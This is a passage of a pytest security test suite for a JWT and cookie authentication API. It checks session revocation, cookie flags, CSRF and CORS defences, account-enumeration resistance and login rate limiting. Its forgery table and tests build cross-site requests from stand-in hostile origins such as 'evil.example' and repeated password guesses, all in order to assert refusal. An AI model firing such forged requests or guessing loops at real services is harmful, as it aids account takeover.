    refused(visitor.request("DELETE", f"/api/token/sessions/{family}/", headers=bearer), 404)
    assert hello(visitor, here.access).status_code == 200


def test_a_new_password_ends_every_session(visitor: Visitor, lab: Lab) -> None:
    name, new = lab.people["changer"], f"{PASSWORD}-{secrets.token_hex(4)}"
    pairs = [log_in(visitor, name), log_in(visitor, name)]
    bearer = {"Authorization": f"Bearer {pairs[0].access}"}
    wrong = {"old_password": "not it", "new_password": new}
    refused(visitor.post("/api/password/", wrong, headers=bearer), 400)
    refused(visitor.post("/api/password/", {"old_password": PASSWORD, "new_password": "password"}, headers=bearer), 400)
    refused(visitor.post("/api/password/", wrong), 401)
    assert hello(visitor, pairs[0].access).status_code == 200
    changed = visitor.post("/api/password/", {"old_password": PASSWORD, "new_password": new}, headers=bearer)
    assert changed.status_code == 204, changed.text
    for pair in pairs:
        ended(hello(visitor, pair.access))
        ended(renew(visitor, pair.refresh))
    refused(visitor.post("/api/token/", {"username": name, "password": PASSWORD}), 401)
    log_in(visitor, name, new)


def test_who_is_deactivated_or_deleted_is_out_at_once(
    visitor: Visitor, lab: Lab, site: dict[str, Any], manage: Callable[[dict[str, Any], str], str]
) -> None:
    """SimpleJWT answers 500 to the refresh token of somebody who is gone."""
    leaver, goner = lab.people["leaver"], lab.people["goner"]
    pairs = [log_in(visitor, leaver), log_in(visitor, goner)]
    users = "from django.contrib.auth import get_user_model as g; u = g().objects"
    manage(
        site,
        f"{users}; l = u.get(username={leaver!r}); l.is_active = False; l.save(); u.get(username={goner!r}).delete()",
    )
    for pair in pairs:
        refused(hello(visitor, pair.access), 401)
        refused(visitor.post("/api/token/verify/", {"token": pair.access}), 401)
        refused(renew(visitor, pair.refresh), 401)
        refused(visitor.post("/api/token/blacklist/", {"refresh": pair.refresh}), 401)
    for name in (leaver, goner):
        refused(visitor.post("/api/token/", {"username": name, "password": PASSWORD}), 401)
    manage(site, f"{users}; l = u.get(username={leaver!r}); l.is_active = True; l.save()")
    refused(hello(visitor, pairs[0].access), 401)


# --- Cookies and other origins ----------------------------------------------------------------------------------------------------------


@dataclasses.dataclass(frozen=True)
class Rider:
    """A browser whose tokens are in cookies. It sends them whoever caused the request: nothing here counts on SameSite."""

    visitor: Visitor
    cookies: dict[str, str]
    told: httpx.Response

    def ask(
        self,
        method: str,
        path: str,
        headers: Mapping[str, str] | None = None,
        *,
        cookies: Sequence[str] = (ACCESS, REFRESH, CSRF),
    ) -> httpx.Response:
        """A request with these of the cookies; one that changes something has an empty object for a body."""
        cookie = "; ".join(f"{name}={self.cookies[name]}" for name in cookies)
        body: dict[str, str] | None = {} if method == "POST" else None
        answer: httpx.Response = self.visitor.request(
            method, path, json=body, headers={"Cookie": cookie, **(headers or {})}
        )
        return answer

    @property
    def proof(self) -> dict[str, str]:
        return {"X-CSRFToken": self.cookies[CSRF], "Origin": f"https://{self.visitor.domain}"}


def ride(visitor: Visitor, name: str) -> Rider:
    # A visitor of its own, whose cookie jar no other test shares; and it stays empty, so that each request says what it carries.
    own = another(visitor)
    told = own.post("/api/token/", {"username": name, "password": PASSWORD, "transport": "cookie"})
    assert told.status_code == 200, told.text
    cookies = {
        header.partition("=")[0]: header.partition("=")[2].partition(";")[0]
        for header in told.headers.get_list("set-cookie")
    }
    own.client.cookies.clear()
    return Rider(own, cookies, told)


@pytest.fixture(scope="module")
def rider(host: Any, inventory: dict[str, Any], visitor_of: Callable[..., Visitor], lab: Lab) -> Rider:
    """Somebody who stays for the tests that only try."""
    return ride(visitor_of(inventory[str(host.backend.get_pytest_id()).rpartition("://")[2]]), lab.people["rider"])


def test_cookies_can_be_read_by_no_script_and_go_nowhere_else(rider: Rider) -> None:
    found = {header.partition("=")[0]: header for header in rider.told.headers.get_list("set-cookie")}
    assert set(found) == {ACCESS, REFRESH, CSRF}
    for name, header in found.items():
        attributes = {word.strip().lower() for word in header.split(";")[1:]}
        assert {"secure", "samesite=strict"} <= attributes
        assert ("httponly" in attributes) == (name != CSRF)
        assert not any(attribute.startswith("domain") for attribute in attributes)
        assert f"path={'/api/token/' if name == REFRESH else '/'}" in attributes
    assert rider.cookies[ACCESS] not in rider.told.text
    assert rider.cookies[REFRESH] not in rider.told.text
    assert "no-store" in rider.told.headers["cache-control"]


def test_cookies_with_proof_open_the_doors(rider: Rider) -> None:
    assert rider.ask("GET", "/hello/").status_code == 200
    document = rider.visitor.post("/api/token/verify/", {"token": rider.cookies[ACCESS]})
    assert document.status_code == 200


FORGERIES: dict[str, dict[str, str]] = {
    "no proof": {},
    "no proof, our origin": {"Origin": "@"},
    "an empty proof": {"X-CSRFToken": "", "Origin": "@"},
    "a made-up proof": {"X-CSRFToken": "a" * 32, "Origin": "@"},
    "the right proof from another origin": {"X-CSRFToken": "$", "Origin": "https://evil.example"},
    "the right proof from nowhere": {"X-CSRFToken": "$", "Origin": "null"},
    "the right proof from a name that begins like ours": {"X-CSRFToken": "$", "Origin": "@.evil.example"},
    "the right proof without TLS": {"X-CSRFToken": "$", "Origin": "http:@"},
    "the right proof, referred by another site": {"X-CSRFToken": "$", "Referer": "https://evil.example/"},
    "the right proof, referred by nobody": {"X-CSRFToken": "$"},
}
CHANGES = [
    ("POST", "/api/token/refresh/"),
    ("POST", "/api/token/blacklist/"),
    ("DELETE", "/api/token/sessions/"),
    ("DELETE", "/api/token/sessions/00000000-0000-4000-8000-000000000000/"),
    ("POST", "/api/password/"),
    ("POST", "/api/documents/"),
]


@pytest.mark.parametrize("change", CHANGES, ids=[f"{method} {path[:24]}" for method, path in CHANGES])
@pytest.mark.parametrize("forgery", FORGERIES.values(), ids=FORGERIES)
def test_a_request_that_another_site_causes_changes_nothing(
    rider: Rider, change: tuple[str, str], forgery: dict[str, str]
) -> None:
    """OWASP, cross-site request forgery. RFC 9700, section 4.7."""
    ours = {
        "@": f"https://{rider.visitor.domain}",
        "http:@": f"http://{rider.visitor.domain}",
        "$": rider.cookies[CSRF],
    }
    headers = {
        name: ours.get(value, value.replace("@", f"https://{rider.visitor.domain}")) for name, value in forgery.items()
    }
    answer = rider.ask(*change, headers)
    refused(answer, 403)
    assert answer.json()["code"] == "csrf_failed"
    assert rider.ask("GET", "/hello/").status_code == 200


def test_a_proof_that_the_attacker_planted_is_worth_nothing_from_another_origin(rider: Rider) -> None:
    planted = dataclasses.replace(rider, cookies={**rider.cookies, CSRF: "b" * 32})
    refused(
        planted.ask("DELETE", "/api/token/sessions/", {"X-CSRFToken": "b" * 32, "Origin": "https://evil.example"}), 403
    )


def test_each_cookie_opens_its_own_door_only(rider: Rider) -> None:
    refused(rider.ask("GET", "/hello/", cookies=(REFRESH, CSRF)), 401)
    refused(rider.ask("POST", "/api/token/refresh/", rider.proof, cookies=(ACCESS, CSRF)), 400, 401)
    swapped = dataclasses.replace(
        rider, cookies={**rider.cookies, ACCESS: rider.cookies[REFRESH], REFRESH: rider.cookies[ACCESS]}
    )
    refused(swapped.ask("GET", "/hello/"), 401)
    refused(swapped.ask("POST", "/api/token/refresh/", rider.proof), 401)


def test_a_bad_header_is_not_made_good_by_a_cookie(rider: Rider) -> None:
    refused(rider.ask("GET", "/hello/", {"Authorization": "Bearer nonsense"}), 401)


def test_cookies_are_renewed_and_taken_back(visitor: Visitor, lab: Lab) -> None:
    rider = ride(visitor, lab.people["second"])
    renewed = rider.ask("POST", "/api/token/refresh/", rider.proof)
    assert renewed.status_code == 200, renewed.text
    fresh = {
        header.partition("=")[0]: header.partition("=")[2].partition(";")[0]
        for header in renewed.headers.get_list("set-cookie")
    }
    assert fresh[ACCESS] != rider.cookies[ACCESS]
    assert fresh[REFRESH] not in renewed.text
    rider.visitor.client.cookies.clear()
    riding_on = dataclasses.replace(rider, cookies={**rider.cookies, **fresh})
    left = riding_on.ask("POST", "/api/token/blacklist/", rider.proof)
    assert left.status_code == 200, left.text
    taken = [header for header in left.headers.get_list("set-cookie") if "Max-Age=0" in header]
    assert {header.partition("=")[0] for header in taken} == {ACCESS, REFRESH}
    rider.visitor.client.cookies.clear()
    ended(riding_on.ask("GET", "/hello/"))


@pytest.mark.parametrize(
    "origin", ["https://evil.example", "null", "https://{}.evil.example", "https://evil{}", "http://{}"]
)
def test_no_other_origin_may_read_an_answer(visitor: Visitor, lab: Lab, origin: str) -> None:
    """An origin that is repeated to whoever names it, with credentials, gives every site everybody's session."""
    said = {"Origin": origin.replace("{}", visitor.domain), "Authorization": f"Bearer {lab.access}"}
    wish = {
        **said,
        "Access-Control-Request-Method": "POST",
        "Access-Control-Request-Headers": "authorization,content-type",
    }
    for answer in (visitor.get("/hello/", headers=said), visitor.request("OPTIONS", "/api/token/", headers=wish)):
        assert "access-control-allow-origin" not in answer.headers
        assert "access-control-allow-credentials" not in answer.headers


# --- Guessing ---------------------------------------------------------------------------------------------------------------------------


def test_nobody_can_tell_by_the_answer_who_has_an_account(visitor: Visitor, lab: Lab) -> None:
    answers = [
        visitor.post("/api/token/", {"username": name, "password": "wrong"})
        for name in (lab.people["late"], f"nobody-{secrets.token_hex(4)}")
    ]
    bodies = []
    for answer in answers:
        refused(answer, 401)
        bodies.append({name: value for name, value in answer.json().items() if name != "request_id"})
    assert bodies[0] == bodies[1]
    assert set(answers[0].headers) == set(answers[1].headers)


def median_of_log_ins(visitor: Visitor, names: list[str]) -> float:
    """Seconds that a refused log-in takes."""
    taken = []
    for name in names:
        started = time.perf_counter()
        answer = visitor.post("/api/token/", {"username": name, "password": "wrong"})
        taken.append(time.perf_counter() - started)
        assert answer.status_code == 401, answer.text
    return statistics.median(taken)


def test_nobody_can_tell_by_the_time_who_has_an_account(visitor: Visitor, lab: Lab) -> None:
    """Hashing takes hundreds of milliseconds, not hashing takes ten; a factor of two is far from both. Noise gets a second chance."""
    known = [lab.people[name] for name in ("late", "second", "third")] * 2
    ratios = []
    for _ in range(2):
        unknown = [f"nobody-{secrets.token_hex(4)}" for _ in known]
        ratios.append(median_of_log_ins(visitor, unknown) / median_of_log_ins(visitor, known))
        if 0.5 < ratios[-1] < 2:
            return
    pytest.fail(f"A log-in without an account takes {ratios} times as long as one with the wrong password")


def test_guessing_a_password_is_stopped_with_the_time_to_wait(visitor: Visitor, lab: Lab) -> None:
    """The last of all, since it uses up what failures this address has. Even the right password waits then, and nobody else does."""
    name = lab.people["third"]
    answers = [visitor.post("/api/token/", {"username": name, "password": f"guess-{number}"}) for number in range(11)]
    assert {answer.status_code for answer in answers} <= {401, 429}
    stopped = visitor.post("/api/token/", {"username": name, "password": PASSWORD})
    refused(stopped, 429)
    # Until most of them are a minute old, and a new minute may have begun in between.
    assert 0 < int(stopped.headers["retry-after"]) <= 120
    log_in(visitor, lab.people["victim"])
